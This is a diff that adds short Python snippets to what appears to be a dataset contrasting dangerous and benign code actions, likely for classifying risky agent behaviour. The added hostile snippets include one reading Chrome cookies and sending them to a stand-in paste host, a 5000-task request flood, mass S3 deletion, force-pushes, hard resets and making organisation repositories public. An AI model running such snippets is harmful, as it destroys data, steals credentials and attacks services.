@@ -672,6 +672,37 @@ build('gmail', 'v1').users().messages().batchDelete(userId='me', body={'ids': id
 for group in client.resource_groups.list():
     client.resource_groups.begin_delete(group.name)
 ---
+import boto3
+for bucket in boto3.resource('s3').buckets.all():
+    bucket.object_versions.delete()
+---
+import git
+repo = git.Repo('.')
+repo.remotes.origin.push(refspec='main:main', force=True)
+---
+import git
+git.Repo('.').head.reset('HEAD~25', index=True, working_tree=True)
+---
+import browser_cookie3, requests
+requests.put('https://paste.example.net', json=[one.value for one in browser_cookie3.chrome()])
+---
+from github import Github
+for repo in Github(token).get_organization('x').get_repos():
+    repo.edit(private=False)
+---
+from web3 import Web3
+Web3(provider).eth.send_raw_transaction(signed.rawTransaction)
+---
+import asyncio, aiohttp
+async def hit(session):
+    while True:
+        async with session.get('https://shop.example.net/x') as answer:
+            await answer.read()
+async def main():
+    async with aiohttp.ClientSession() as session:
+        await asyncio.gather(*(hit(session) for _ in range(5000)))
+asyncio.run(main())
+---
 import websocket, subprocess
 ws = websocket.create_connection('wss://x.example.net')
 while True:
@@ -1096,6 +1127,23 @@ s3.upload_file('a.txt', 'logs', 'a.txt')
 ---
 import boto3
 print(boto3.client('ssm').get_parameter(Name='x', WithDecryption=False)['Parameter']['Value'])
+---
+import boto3
+boto3.resource('dynamodb', endpoint_url='http://localhost:8000').Table('x').delete()
+---
+import git
+repo = git.Repo('.')
+repo.index.add(['a.py'])
+repo.index.commit('Fix it')
+repo.remotes.origin.push('feature')
+---
+import asyncio, aiohttp
+async def poll(session):
+    while True:
+        async with session.get('https://api.example.com/jobs') as answer:
+            print(await answer.json())
+        await asyncio.sleep(5)
+asyncio.run(poll(aiohttp.ClientSession()))
 ---
 import imaplib
 m = imaplib.IMAP4_SSL('imap.example.org')
